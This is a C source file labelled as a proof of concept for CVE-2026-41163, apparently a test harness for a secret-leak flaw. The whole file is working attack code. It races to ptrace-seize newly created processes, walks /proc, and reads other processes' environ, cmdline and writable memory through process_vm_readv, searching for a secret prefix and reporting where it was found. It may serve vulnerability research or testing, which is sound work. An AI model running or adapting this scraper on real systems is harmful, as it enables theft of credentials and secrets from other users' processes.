/*
 * CVE-2026-41163: for each pid that may come next, and each that is there, tries ptrace(2), process_vm_readv(2) and the files of /proc, until
 * the file of its first argument exists. The second argument is the prefix of what it looks for in the memory of others. Prints FOUND and
 * where, and how many processes it looked into.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static char prefix[64], buffer[1 << 20];
static long seized, looked;

static void look(const char *what, pid_t pid, ssize_t length) {
	char name[64] = "";
	char path[64];
	if (length <= 0 || memmem(buffer, (size_t)length, prefix, strlen(prefix)) == NULL) return;
	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	int file = open(path, O_RDONLY);
	if (file >= 0 && read(file, name, sizeof name - 1) > 0) name[strcspn(name, "\n")] = '\0';
	close(file);
	printf("FOUND by %s in %s\n", what, name);
	fflush(stdout);
}

static void read_file(pid_t pid, const char *name) {
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	int file = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (file < 0) return;
	look(name, pid, read(file, buffer, sizeof buffer));
	close(file);
}

static void read_memory(pid_t pid) {
	char path[64], line[512];
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *maps = fopen(path, "re");
	if (maps == NULL) return;
	looked++;
	while (fgets(line, sizeof line, maps) != NULL) {
		unsigned long start, end;
		if (sscanf(line, "%lx-%lx rw", &start, &end) != 2 || strstr(line, " rw") == NULL) continue;
		size_t size = end - start < sizeof buffer ? end - start : sizeof buffer;
		struct iovec own = {buffer, size}, its = {(void *)start, size};
		look("process_vm_readv", pid, process_vm_readv(pid, &own, 1, &its, 1, 0));
	}
	fclose(maps);
}

static void examine(pid_t pid) {
	if (pid == getpid()) return;
	read_file(pid, "environ");
	read_file(pid, "cmdline");
	read_memory(pid);
}

int main(int argc, char **argv) {
	if (argc < 3) return 1;
	/* Of this process's own command line nothing stays that has the prefix. */
	snprintf(prefix, sizeof prefix, "%s", argv[2]);
	memset(argv[2], 0, strlen(argv[2]));
	pid_t next = getpid();
	printf("ready\n");
	fflush(stdout);
	while (access(argv[1], F_OK) != 0) {
		int file = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
		char text[32] = "";
		if (file >= 0 && read(file, text, sizeof text - 1) > 0) next = atoi(text) + 1;
		close(file);
		for (int i = 0; i < 3000; i++) {
			if (ptrace(PTRACE_SEIZE, next, 0, 0) != 0) continue;
			seized++;
			ptrace(PTRACE_INTERRUPT, next, 0, 0);
			waitpid(next, NULL, __WALL);
			examine(next);
			ptrace(PTRACE_DETACH, next, 0, 0);
			break;
		}
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;)
			if (atoi(entry->d_name) > 0) examine(atoi(entry->d_name));
		if (proc != NULL) closedir(proc);
	}
	printf("%ld seized, %ld memories read\n", seized, looked);
	return 0;
}
